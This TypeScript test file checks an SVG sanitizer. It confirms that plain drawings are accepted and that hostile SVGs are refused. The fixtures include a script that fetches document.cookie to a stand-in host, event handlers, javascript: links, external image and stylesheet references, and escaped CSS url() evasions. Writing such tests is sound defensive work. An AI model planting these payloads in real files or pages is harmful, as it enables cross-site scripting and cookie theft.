import { describe, expect, it } from "vitest";
import { svgProblems } from "../../src/stages/5-layout/svg-check.js";

/** Issue 28, problem 2: an SVG with script, handlers, foreignObject or external references is refused. */

const SVG = (inner: string, attrs = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${attrs}>${inner}</svg>`;

describe("SVG check", () => {
  it("accepts a plain drawing with gradients, fragment references (in attributes and styles) and an XML declaration", async () => {
    const plain = `<?xml version="1.0" encoding="UTF-8"?>\n${SVG(
      '<defs><linearGradient id="g"><stop offset="0" stop-color="#123"/></linearGradient></defs><rect width="10" height="10" fill="url(#g)"/><use href="#g"/><text x="1" y="5"> </text><style>rect{stroke:url(\'#g\')}</style><rect style="fill:url(#g)"/>',
    )}`;
    expect(await svgProblems(plain)).toEqual([]);
  });

  it("refuses text, which an image cannot set in the bundled faces (issue 27: no glyph from a system font)", async () => {
    expect(await svgProblems(SVG('<text x="1" y="5">Unit</text>'))).toEqual([
      "text (<text>), which an image cannot set in the bundled faces: convert it to outlines (paths)",
    ]);
  });

  it.each([
    ["a script", SVG('<script>fetch("https://x.example/?c="+document.cookie)</script><rect/>'), /<script>/],
    ["an event handler", SVG('<rect width="1" height="1" onload="alert(1)"/>'), /onload=/],
    ["foreignObject", SVG("<foreignObject><div>x</div></foreignObject>"), /foreignObject/i],
    ["an external image", SVG('<image xlink:href="https://evil.example/t.png"/>'), /external reference/],
    ["a javascript: link", SVG('<a href="javascript:alert(1)"><rect/></a>'), /href/],
    ["a remote url() in a style", SVG("<style>rect{fill:url(https://e.example/a)}</style><rect/>"), /url\(https/],
    // Read by css-tree, as stylesheets are: an escaped function name, a string URL, an import, a ")" in a string.
    [
      "an escaped url in a style",
      SVG('<rect style="fill:u\\72l(https://e.example/a)"/>'),
      /url\(https:\/\/e\.example\/a\)/,
    ],
    [
      "an image-set() in a style",
      SVG('<style>rect{fill:image-set("https://e.example/i.png" 1x)}</style><rect/>'),
      /url\(https:\/\/e\.example\/i\.png\)/,
    ],
    ["an @import in a style", SVG('<style>@import "https://e.example/x.css";</style><rect/>'), /@import in a style/],
    [
      "a url whose string holds a parenthesis",
      SVG(`<style>rect{fill:url("https://e.example/a?b=)")}</style><rect/>`),
      /url\(https:\/\/e\.example\/a\?b=\)\)/,
    ],
    ["a prefixed script", SVG("<x:script>alert(1)</x:script>", ' xmlns:x="http://www.w3.org/2000/svg"'), /script/],
    ["an entity", `<!DOCTYPE svg [<!ENTITY x "a">]>${SVG("<text>&x;</text>")}`, /entities/],
    [
      "an xml-stylesheet",
      `<?xml-stylesheet href="https://e.example/x.xsl" type="text/xsl"?>${SVG("")}`,
      /processing instruction/,
    ],
  ])("refuses %s", async (_name, text, expected) => {
    const problems = await svgProblems(text);
    expect(problems.join("; ")).toMatch(expected);
  });
});
